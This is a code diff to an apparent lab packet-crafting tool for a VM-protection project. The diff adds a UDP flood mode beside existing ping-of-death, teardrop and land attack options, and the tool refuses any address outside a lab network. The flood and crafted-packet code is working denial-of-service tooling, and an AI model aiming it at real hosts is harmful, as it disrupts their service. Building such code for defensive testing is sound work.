@@ -63,9 +63,31 @@ def land(dst: bytes, ident: int, port: int = 80) -> list[bytes]:
     return [bytes(pkt)]
 
 
+def _udpflood(dst: str, count: int, seconds: float = 5.0) -> int:
+    """`count` 18-byte datagrams to the discard port as fast as one process sends, within `seconds`."""
+    import time
+
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    payload = b"vmshield-udpflood"
+    sent = 0
+    deadline = time.monotonic() + seconds
+    try:
+        while sent < count and time.monotonic() < deadline:
+            for _ in range(min(500, count - sent)):
+                try:
+                    s.sendto(payload, (dst, 9))
+                except OSError:  # ICMP unreachable reported back on the socket
+                    pass
+                sent += 1
+    finally:
+        s.close()
+    print(f"sent {sent} datagrams")
+    return 0
+
+
 def main(argv: list[str] | None = None) -> int:
     ap = argparse.ArgumentParser(prog="python -m vmshield.lab.craft")
-    ap.add_argument("kind", choices=("pingofdeath", "teardrop", "land"))
+    ap.add_argument("kind", choices=("pingofdeath", "teardrop", "land", "udpflood"))
     ap.add_argument("--to", required=True)
     ap.add_argument("--from-address", required=True)
     ap.add_argument("--count", type=int, default=3)
@@ -75,6 +97,8 @@ def main(argv: list[str] | None = None) -> int:
     if dst_a not in LAB_NET or src_a not in LAB_NET:
         print("refusing: crafted packets only go to lab addresses (10.231.0.0/16)", file=sys.stderr)
         return 2
+    if args.kind == "udpflood":
+        return _udpflood(str(dst_a), max(1, min(args.count, 50_000)))
     count = max(1, min(args.count, 20))
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     sent = 0
